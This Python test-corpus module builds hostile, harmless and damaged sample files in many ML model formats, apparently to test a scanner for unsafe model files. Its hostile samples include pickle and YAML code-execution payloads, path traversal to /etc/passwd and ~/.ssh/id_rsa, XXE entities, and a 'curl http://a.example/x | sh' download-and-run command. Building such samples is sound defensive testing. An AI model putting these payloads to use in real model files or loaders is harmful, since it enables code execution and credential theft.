"""Files of model formats, written by hand: hostile, harmless and damaged.

Over 500 lines, since a sample is text of its own.
"""
# ruff: noqa: E501 -- samples stand in one piece

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator

from tests.corpus import hdf5_files, hub_templates
from tests.corpus.flatbuffers import executorch
from tests.corpus.wire import (
    field,
    gguf,
    gguf_entry,
    gguf_tensor,
    gguf_text,
    message,
    onnx,
    onnx_external,
    onnx_node,
    safetensors,
    saved_model,
    tensor,
    tf_function,
    tf_graph,
    tf_node,
    tflite,
    varint,
)

Sample = tuple[str, bytes | dict[str, bytes]]
PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
MARSHAL = base64.b64encode(b"\xe3" + bytes(40)).decode()


def _bounds() -> Iterator[Sample]:
    deep = b"[" * 100_000
    yield "deep-header.safetensors", struct.pack("<Q", len(deep)) + deep
    yield (
        "negative-offset.safetensors",
        safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [-4, 0]}}, bytes(4)),
    )
    nested = struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 5000
    yield (
        "nested-arrays.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1) + b"a" + nested,
    )
    yield "model.pb", onnx(initializers=[onnx_external("../../etc/passwd")])
    yield "java.yaml", b"!!javax.script.ScriptEngineManager [!!java.net.URL ['http://a.example']]\n"
    yield (
        "xinclude.pmml",
        b'<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></PMML>',
    )
    yield "target.safetensors", safetensors({"__metadata__": {"_target_": "builtins.exec"}}, b"")


def hostile() -> Iterator[Sample]:
    yield from _hostile_safetensors()
    yield from _hostile_gguf()
    yield from _hostile_onnx()
    yield from _hostile_keras()
    yield from _hostile_tensorflow()
    yield from _hostile_others()
    yield from _bounds()


def _hostile_safetensors() -> Iterator[Sample]:
    a, b = tensor(0, 8), tensor(4, 12)
    yield "st_overlap.safetensors", safetensors({"a": a, "b": b}, bytes(12))
    yield "st_same.safetensors", safetensors({"a": a, "b": a}, bytes(8))
    yield "st_hole.safetensors", safetensors({"a": a, "b": tensor(16, 24)}, b"PAYLOAD!" * 3)
    yield "st_leading.safetensors", safetensors({"a": tensor(8, 16)}, bytes(16))
    yield "st_trailing.safetensors", safetensors({"a": a}, bytes(8) + PICKLE)
    yield "st_trailing_elf.safetensors", safetensors({"a": a}, bytes(8) + b"\x7fELF" + bytes(60))
    twice = json.dumps({"a": a})[:-1] + ',"a":' + json.dumps(tensor(0, 8, [2, 4])) + "}"
    yield "st_duplicate.safetensors", safetensors(twice, bytes(8))
    nested = '{"a":{"dtype":"U8","dtype":"I8","shape":[8],"data_offsets":[0,8]}}'
    yield "st_duplicate_inner.safetensors", safetensors(nested, bytes(8))
    yield "st_shape.safetensors", safetensors({"a": tensor(0, 8, [1 << 40, 1 << 40])}, bytes(8))
    yield "st_length.safetensors", (1 << 62).to_bytes(8, "little") + b"{}" + bytes(64)
    yield "st_size.safetensors", safetensors({"a": tensor(0, 8, [4])}, bytes(8))
    for key, value in {
        "pickle": base64.b64encode(PICKLE).decode(),
        "hydra": '{"_target_": "os.system", "command": "id"}',
        "hydra_yaml": "model:\n  _target_: subprocess.Popen\n  args: [id]",
        "template": "{{ ''.__class__.__mro__ }}",
        "code": "__import__('os').system('id')",
        "yaml": "!!python/object/apply:os.system ['id']",
    }.items():
        yield (
            f"st_meta_{key}.safetensors",
            safetensors({"__metadata__": {"format": "pt", key: value}, "a": a}, bytes(8)),
        )


def _hostile_gguf() -> Iterator[Sample]:
    for name, template in hub_templates.HOSTILE.items():
        entry = gguf_entry("tokenizer.chat_template", template)
        yield f"gg_template_{name}.gguf", gguf([entry])
    evil = hub_templates.HOSTILE["globals"]
    yield "gg_named.gguf", gguf([gguf_entry("tokenizer.chat_template.tool_use", evil)])
    plain = gguf_entry("tokenizer.chat_template", hub_templates.HARMLESS["chatml"])
    yield "gg_twice.gguf", gguf([plain, gguf_entry("tokenizer.chat_template", evil)])
    yield "gg_twice_kind.gguf", gguf([plain, gguf_entry("tokenizer.chat_template", 7)])
    yield "gg_array.gguf", gguf([gguf_entry("tokenizer.chat_templates", [evil])])
    yield "gg_count.gguf", gguf([], counts=(0, 1 << 62))
    yield "gg_tensors.gguf", gguf([plain], counts=(1 << 61, 1))
    yield "gg_string.gguf", gguf([gguf_text("k") + struct.pack("<IQ", 8, (1 << 64) - 8)])
    yield "gg_key.gguf", gguf([struct.pack("<Q", 1 << 63)])
    yield "gg_list.gguf", gguf([gguf_text("k") + struct.pack("<IIQ", 9, 10, 1 << 61)])
    yield "gg_shape.gguf", gguf([], [gguf_tensor("t", [1 << 32, 1 << 33])])
    yield "gg_dimensions.gguf", gguf([], [gguf_tensor("t", [2] * 9)])
    yield "gg_offset.gguf", gguf([], [gguf_tensor("t", [4], offset=1 << 63)])
    yield "gg_alignment.gguf", gguf([gguf_entry("general.alignment", 0)])
    yield "gg_v2.gguf", gguf([gguf_entry("tokenizer.chat_template", evil)], version=2)


def _hostile_onnx() -> Iterator[Sample]:
    node = onnx_node("Add")
    for index, path in enumerate(
        ("../../../etc/passwd", "/etc/shadow", "..\\..\\x", "C:\\x", "https://x.example/w",
         "a/../../b", "%2e%2e/x", "~/.ssh/id_rsa", "\\\\host\\share", "file:///etc/passwd")
    ):  # fmt: skip
        yield f"on_place_{index}.onnx", onnx(node, initializers=[onnx_external(path)])
    away = onnx_external("../x")
    yield "on_constant.onnx", onnx(onnx_node("Constant", "", message((1, "value"), (5, away))))
    yield "on_tensors.onnx", onnx(onnx_node("Op", "", message((1, "v"), (10, away))))
    inner = message((1, node), (5, away))
    yield "on_subgraph.onnx", onnx(onnx_node("If", "", message((1, "then_branch"), (6, inner))))
    deep = onnx_node(
        "Loop",
        "",
        message(
            (1, "body"), (6, message((1, onnx_node("If", "", message((1, "b"), (11, inner))))))
        ),
    )
    yield "on_deep.onnx", onnx(deep)
    sparse = message((1, "s"), (22, message((1, away))))
    yield "on_sparse.onnx", onnx(onnx_node("Constant", "", sparse))
    graph = message((1, node), (15, message((2, away))))
    yield "on_sparse_initializer.onnx", message((1, 8), (2, "x"), (7, graph))
    yield "on_pyop.onnx", onnx(onnx_node("PyOp", "com.microsoft.extensions"))
    yield "on_pyop_standard.onnx", onnx(onnx_node("PyOp"))
    function = message((1, "F"), (7, onnx_node("PythonOp", "com.microsoft")), (10, "local"))
    yield "on_function.onnx", onnx(onnx_node("F", "local"), functions=[function])
    yield "on_key.onnx", onnx(node, initializers=[onnx_external("w.bin", __class__="x")])
    yield (
        "on_twice.onnx",
        onnx(
            node,
            initializers=[
                onnx_external("w.bin") + field(13, message((1, "location"), (2, "../w")))
            ],
        ),
    )
    yield "on_metadata.onnx", onnx(node, metadata=[("x", "__import__('os').system('id')")])
    yield "on_renamed.bin", onnx(node, initializers=[away])


def _layer(
    name: str, package: str | None = "keras.layers", /, **config: object
) -> dict[str, object]:
    return {"module": package, "class_name": name, "config": config, "registered_name": None}


def _keras(*layers: object) -> bytes:
    return json.dumps(
        {
            "module": "keras",
            "class_name": "Sequential",
            "config": {"name": "s", "layers": list(layers)},
        }
    ).encode()


def _hostile_keras() -> Iterator[Sample]:
    code = {"class_name": "__lambda__", "config": {"code": MARSHAL}}
    lambda_ = _layer("Lambda", function=code)
    yield "kr_lambda/config.json", _keras(lambda_)
    yield "kr_wrapped/config.json", _keras(_layer("TimeDistributed", layer=lambda_))
    yield (
        "kr_submodel/config.json",
        _keras(
            {
                "class_name": "Functional",
                "config": {
                    "layers": [{"class_name": "Functional", "config": {"layers": [lambda_]}}]
                },
            }
        ),
    )
    yield "kr_activation/config.json", _keras(_layer("Dense", activation=code))
    yield (
        "kr_v2/config.json",
        _keras(
            {
                "class_name": "Lambda",
                "config": {"function": [MARSHAL, None, None], "function_type": "lambda"},
            }
        ),
    )
    for index, (module, name) in enumerate(
        (("os", "system"), ("builtins", "exec"), ("subprocess", "Popen"), ("shutil", "rmtree"),
         ("keras.utils", "get_file"), ("keras.src.utils.file_utils", "extract_archive"),
         ("keras.config", "enable_unsafe_deserialization"), ("numpy.f2py", "compile"),
         ("keras.models", "load_model"), ("evil_package.layers", "payload"),
         ("keras.src.saving.saving_lib", "load_model"), ("tensorflow", "py_function"))
    ):  # fmt: skip
        reference = {
            "module": module,
            "class_name": "function",
            "config": name,
            "registered_name": name,
        }
        yield f"kr_import_{index}/config.json", _keras(_layer("Dense", activation=reference))
        yield f"kr_class_{index}/config.json", _keras(_layer(name, module, arg="id"))
    wrapped = {"class_name": "__bytes__", "config": {"value": base64.b64encode(PICKLE).decode()}}
    yield "kr_torch/config.json", _keras(_layer("TorchModuleWrapper", module=wrapped))
    yield "kr_lookup/config.json", _keras(_layer("StringLookup", vocabulary="/etc/passwd"))
    yield "kr_lookup_up/config.json", _keras(_layer("IntegerLookup", vocabulary="../../x"))
    yield (
        "kr_lookup_url/config.json",
        _keras(_layer("StringLookup", vocabulary="https://x.example/v")),
    )
    yield "kr_tfsm/config.json", _keras(_layer("TFSMLayer", filepath="/tmp/evil"))
    for name in ("lambda_text", "lambda_fixed", "external_link", "external_storage", "virtual",
                 "dense_attributes", "dense_links", "user_block"):  # fmt: skip
        yield f"kr_{name}.h5", hdf5_files.read(f"{name}.h5")
    yield "kr_renamed.bin", hdf5_files.read("lambda_text.h5")


def _hostile_tensorflow() -> Iterator[Sample]:
    yield "graph.pbtxt", b'node {\n  name: "x"\n  op: "WriteFile"\n}\n'
    yield "cut.lgb", b"tree\nversion=v4\n[plugin: __import__('os').system('id')]\n"
    yield "side.gguf", gguf([], [gguf_tensor("t", [0, 1 << 63])], bytes(32))
    yield "ml/MLmodel", b"flavors:\n  python_function:\n    loader_module: os\n"
    yield "dv/dvc.yaml", b"stages:\n  a:\n    cmd: curl http://a.example/x | sh\n"
    yield (
        "pe/adapter_config.json",
        b'{"peft_type": "LORA", "auto_mapping": {"parent_library": "subprocess"}}',
    )
    for operator in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "PyFuncStateless",
                     "MatchingFiles"):  # fmt: skip
        yield f"tf_{operator}/saved_model.pb", saved_model(tf_graph(tf_node(operator)))
        yield f"tf_{operator}.pb", tf_graph(tf_node("Const"), tf_node(operator))
        library = tf_graph(
            tf_node("PartitionedCall"),
            functions=[tf_function("__inference_1", tf_node("Identity"), tf_node(operator))],
        )
        yield f"tf_library_{operator}/saved_model.pb", saved_model(library)
    away = message((1, message((1, "x"))), (2, "../../etc/passwd"))
    graph = tf_graph(tf_node("Const"))
    yield "tf_asset/saved_model.pb", saved_model(graph, (6, away))
    text = tf_graph(tf_node("Const", text="/etc/passwd; cat ~/.ssh/id_rsa"))
    yield "tf_path/saved_model.pb", saved_model(text)
    layer = json.dumps(_layer("Lambda", function=[MARSHAL, None, None]))
    saved = message((1, message((4, message((1, "_tf_keras_layer"), (3, layer))))))
    yield "tf_lambda/saved_model.pb", saved_model(graph, (7, saved))
    yield "tl_flex.tflite", tflite(0, "FlexReadFile")
    yield "tl_pyfunc.tflite", tflite("FlexPyFunc")
    yield "tl_shell.tflite", tflite("ShellExec")
    yield "tl_buffer.tflite", tflite(0, buffer_index=99)


def _hostile_others() -> Iterator[Sample]:
    node = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "FunctionNode",
        "content": {"module_path": "os", "function": "system"},
    }
    base = {
        "__class__": "Pipeline",
        "__module__": "sklearn.pipeline",
        "__loader__": "ObjectNode",
        "protocol": 2,
        "_skops_version": "0.11",
    }
    yield "sk_function/schema.json", json.dumps({**base, "content": node}).encode()
    yield (
        "sk_type/schema.json",
        json.dumps(
            {
                **base,
                "content": {
                    "__class__": "Popen",
                    "__module__": "subprocess",
                    "__loader__": "TypeNode",
                },
            }
        ).encode(),
    )
    yield (
        "sk_operator/schema.json",
        json.dumps(
            {
                **base,
                "content": {
                    "__class__": "system",
                    "__module__": "posix",
                    "__loader__": "OperatorFuncNode",
                },
            }
        ).encode(),
    )
    yield (
        "sk_method/schema.json",
        json.dumps(
            {
                **base,
                "content": {
                    "__class__": "X",
                    "__module__": "sklearn.x",
                    "__loader__": "MethodNode",
                    "content": {"func": "__globals__", "obj": {}},
                },
            }
        ).encode(),
    )
    yield "fx_extension.msgpack", b"\x81\xa1a\xc7" + bytes([len(PICKLE), 42]) + PICKLE
    yield "fx_pickle.msgpack", b"\x81\xa1a\xc4" + bytes([len(PICKLE)]) + PICKLE
    yield "fx_length.msgpack", b"\x81\xa1a\xdd\xff\xff\xff\xff"
    yield "fx_bytes.msgpack", b"\x81\xa1a\xc6\xff\xff\xff\xff"
    yield "fx_trailing.msgpack", b"\x81\xa1a\x01" + PICKLE
    yield (
        "ov_library.xml",
        (
            b'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0"'
            b' name="x" type="Custom" version="extension"><data library='
            b'"/tmp/evil.so"/></layer></layers></net>'
        ),
    )
    yield (
        "ov_python.xml",
        (
            b'<net name="m" version="11"><layers><layer id="0" name="x" '
            b'type="PythonOp" version="opset1"/></layers></net>'
        ),
    )
    yield (
        "ov_path.xml",
        (
            b'<net name="m" version="11"><layers><layer id="0" name="x" type="Const" '
            b'version="opset1"><data path="../../etc/passwd"/></layer></layers></net>'
        ),
    )
    yield (
        "pm_entity.pmml",
        (
            b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM '
            b'"file:///etc/passwd">]><PMML version="4.4"><Header>&x;</Header></PMML>'
        ),
    )
    yield (
        "pm_parameter.pmml",
        (b'<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://x.example/e.dtd"> %x;]><PMML/>'),
    )
    yield (
        "pm_laughs.pmml",
        (
            b'<!DOCTYPE PMML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;">]><PMML>&c;</PMML>'
        ),
    )
    yield (
        "pm_script.pmml",
        (
            b'<PMML version="4.4"><Extension name="x"><script>java.lang.Runtime.'
            b"getRuntime().exec('id')</script></Extension></PMML>"
        ),
    )
    yield (
        "pm_apply.pmml",
        (
            b'<PMML version="4.4"><TransformationDictionary><Apply function='
            b'"java.lang.Runtime.exec"/></TransformationDictionary></PMML>'
        ),
    )
    yield (
        "pm_utf16.pmml",
        (
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM'
            ' "file:///etc/passwd">]><PMML>&x;</PMML>'
        ).encode("utf-16"),
    )
    yield "ex_library.so", b"\x7fELF\x02\x01\x01" + bytes(100)
    yield "ex_hidden.bin", b"\x7fELF\x02\x01\x01" + bytes(100)
    yield "ex_program.exe", b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(100)
    yield "ex_mach.dylib", b"\xcf\xfa\xed\xfe" + bytes(100)
    yield "et_shell.pte", executorch("aten::add", "acme::shell_exec")
    yield "ex_plugin.engine", b"ptrt" + bytes(40) + b"/tmp/libevil_plugin.so" + bytes(40)
    yield (
        "xg_code.json",
        json.dumps(
            {
                "version": [2, 0, 0],
                "learner": {"attributes": {"x": "__import__('os').system('id')"}},
            }
        ).encode(),
    )
    yield (
        "cm_linked.mlmodel",
        message(
            (1, 4),
            (2, message((100, message((1, "a"))))),
            (556, message((1, message((1, message((1, "../../../tmp/x"))))))),
        ),
    )


def harmless() -> Iterator[Sample]:
    big = {f"layer.{i}.weight": tensor(i * 16, i * 16 + 16, [4, 4]) for i in range(20)}
    yield "st_plain.safetensors", safetensors({"__metadata__": {"format": "pt"}, **big}, bytes(320))
    yield "st_padded.safetensors", safetensors(json.dumps(big) + "   ", bytes(320))
    yield (
        "st_empty.safetensors",
        safetensors({"e": tensor(0, 0, [0, 4]), "a": tensor(0, 8)}, bytes(8)),
    )
    meta = {
        "ss_tag": '{"girl": 1}',
        "modelspec.architecture": "stable-diffusion-v1",
        "recipe": "m(a,b)",
    }
    yield "st_lora.safetensors", safetensors({"__metadata__": meta, "a": tensor(0, 8)}, bytes(8))
    for name, template in hub_templates.HARMLESS.items():
        entries = [
            gguf_entry("general.architecture", "llama"), gguf_entry("general.alignment", 32),
            gguf_entry("tokenizer.ggml.tokens", ["<s>", "</s>", "a", "{{", "__init__"]),
            gguf_entry("tokenizer.chat_template", template),
        ]  # fmt: skip
        yield f"gg_{name}.gguf", gguf(entries, [gguf_tensor("t", [32])], bytes(128))
    add = [onnx_node("MatMul"), onnx_node("FusedMatMul", "com.microsoft"),
           onnx_node("TreeEnsembleClassifier", "ai.onnx.ml")]  # fmt: skip
    yield (
        "on_plain.onnx",
        onnx(*add, initializers=[message((1, 4), (2, 1), (8, "w"), (9, bytes(16)))]),
    )
    yield (
        "on_external.onnx",
        onnx(*add, initializers=[onnx_external("model.onnx_data", offset="0")]),
    )
    sub = message((1, onnx_node("Identity")), (2, "g"))
    yield "on_if.onnx", onnx(onnx_node("If", "", message((1, "then_branch"), (6, sub))))
    inner = message((1, "Gelu"), (7, onnx_node("Erf")), (10, "pkg.onnxscript.torch_lib"))
    yield "on_function.onnx", onnx(onnx_node("Gelu", "pkg.onnxscript.torch_lib"), functions=[inner])
    relu = {"module": "keras.activations", "class_name": "function", "config": "relu",
            "registered_name": "relu"}  # fmt: skip
    glorot = {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None},
              "registered_name": None}  # fmt: skip
    policy = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"},
              "registered_name": None}  # fmt: skip
    dense = _layer("Dense", units=3, activation=relu, kernel_initializer=glorot, dtype=policy)
    lookup = _layer("StringLookup", vocabulary=["a", "b"])
    loss = {"module": "builtins", "class_name": "function", "config": "my_loss",
            "registered_name": "function"}  # fmt: skip
    yield "kr_plain/config.json", _keras(dense, _layer("TimeDistributed", layer=dense), lookup)
    yield "kr_loss/config.json", _keras(dense, _layer("Activation", activation=loss))
    yield "kr_plain.h5", hdf5_files.read("plain.h5")
    yield "kr_latest.h5", hdf5_files.read("plain_latest.h5")
    usual = ["VarHandleOp", "ReadVariableOp", "MatMul", "SaveV2", "RestoreV2", "ShardedFilename",
             "MergeV2Checkpoints", "StaticRegexFullMatch", "StatefulPartitionedCall", "NoOp"]  # fmt: skip
    library = [tf_function("__inference_f", *map(tf_node, usual))]
    yield "tf/saved_model.pb", saved_model(tf_graph(*map(tf_node, usual), functions=library))
    yield "tf_frozen.pb", tf_graph(tf_node("Placeholder"), tf_node("Const"), tf_node("Conv2D"))
    yield "tl_plain.tflite", tflite(0, 3, 9)
    yield "et_plain.pte", executorch("aten::add", "quantized_decomposed::quantize_per_tensor")
    yield "tl_detect.tflite", tflite(3, "TFLite_Detection_PostProcess")
    yield (
        "sk_plain/schema.json",
        json.dumps(
            {
                "__class__": "Pipeline",
                "__module__": "sklearn.pipeline",
                "__loader__": "ObjectNode",
                "content": {
                    "__class__": "dict",
                    "__module__": "builtins",
                    "__loader__": "DictNode",
                    "content": {
                        "steps": {
                            "__class__": "StandardScaler",
                            "__loader__": "ObjectNode",
                            "__module__": "sklearn.preprocessing._data",
                        }
                    },
                },
                "protocol": 2,
                "_skops_version": "0.11",
            }
        ).encode(),
    )
    array = b"\x93\x91\x02\xa7float32\xc4\x08" + bytes(8)
    yield "fx_plain.msgpack", b"\x81\xa6params\x81\xa1w\xc7" + bytes([len(array), 1]) + array
    yield (
        "ov_plain.xml",
        (
            b'<?xml version="1.0"?><net name="Model0" version="11"><layers><layer '
            b'id="0" name="/model/x" type="Parameter" version="opset1"><data shape="1,3"'
            b' element_type="f32"/></layer></layers><edges/><rt_info/></net>'
        ),
    )
    yield (
        "pm_plain.pmml",
        (
            b'<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version='
            b'"4.4"><Header><Application name="JPMML"/></Header><DataDictionary>'
            b'<DataField name="x"/></DataDictionary></PMML>'
        ),
    )
    yield (
        "lg_plain.txt",
        (
            b"tree\nversion=v4\nnum_class=1\nmax_feature_idx=3\ntree_sizes=20\n\n"
            b"Tree=0\nnum_leaves=2\n\n\nend of trees\n\nparameters:\nend of parameters\n"
        ),
    )
    yield (
        "xg_plain.json",
        json.dumps(
            {
                "learner": {"attributes": {}, "objective": {"name": "binary:logistic"}},
                "version": [2, 1, 0],
            }
        ).encode(),
    )
    yield (
        "xg_plain.ubj",
        (
            b"{L"
            + (7).to_bytes(8, "big")
            + b"learner{L"
            + (4).to_bytes(8, "big")
            + b"nameSL"
            + (2).to_bytes(8, "big")
            + b"gb}L"
            + (7).to_bytes(8, "big")
            + b"version[i\x01i\x02i\x00]}"
        ),
    )
    piece = [
        (1, message((1, text)) + b"\x15" + struct.pack("<f", -1.0)) for text in ("<unk>", "a", "b")
    ]
    yield "tokenizer.model", message(*piece, (2, message((3, "x"))))
    network = message((1, message((1, "l"), (50, b""))))
    yield (
        "cm_plain.mlmodel",
        message((1, 4), (2, message((100, message((3, "author"))))), (500, network)),
    )


def damaged() -> Iterator[Sample]:
    good = safetensors({"a": tensor(0, 64)}, bytes(64))
    yield "st_cut.safetensors", good[:-20]
    yield "st_cut_header.safetensors", good[:30]
    yield "st_json.safetensors", good.replace(b'"dtype"', b'"dtype!')
    yield "st_none.safetensors", b""
    whole = gguf(
        [gguf_entry("general.architecture", "llama")], [gguf_tensor("t", [32])], bytes(128)
    )
    yield "gg_cut.gguf", whole[:-40]
    yield "gg_cut_head.gguf", whole[:20]
    yield "gg_kind.gguf", whole.replace(struct.pack("<I", 8), struct.pack("<I", 77), 1)
    yield "gg_version.gguf", b"GGUF" + struct.pack("<I", 99) + whole[8:]
    model = onnx(onnx_node("Add"), initializers=[message((8, "w"), (9, bytes(200)))])
    yield "on_cut.onnx", model[:-60]
    yield "on_flipped.onnx", model[:3] + b"\xff" * 12 + model[15:]
    yield "kr_cut.h5", hdf5_files.read("plain.h5")[:1500]
    yield "kr_cut_late.h5", hdf5_files.read("plain.h5")[:-900]
    yield "kr_config/config.json", _keras(_layer("Dense"))[:-9]
    graph = saved_model(tf_graph(*[tf_node("MatMul", f"node{i}") for i in range(30)]))
    yield "tf/saved_model.pb", graph[:-100]
    yield "et_cut.pte", executorch("aten::add")[:-60]
    yield "tl_cut.tflite", tflite(0, 3)[:60]
    yield "fx_cut.msgpack", b"\x81\xa6params\x81\xa1w\xc4\x40" + bytes(10)
    yield "pm_cut.pmml", b'<?xml version="1.0"?><PMML version="4.4"><Header>'
    yield "lg_cut.txt", b"tree\nversion=v4\ntree_sizes=20 30\n\nTree=0\n"
    yield "cb_cut.cbm", b"CBM1" + (5000).to_bytes(4, "little") + bytes(50)
    yield "xg_cut.ubj", b"{L" + (7).to_bytes(8, "big") + b"learner{"
    yield "cm_cut.mlmodel", b"\x08\x04\x12" + varint(500) + bytes(20)
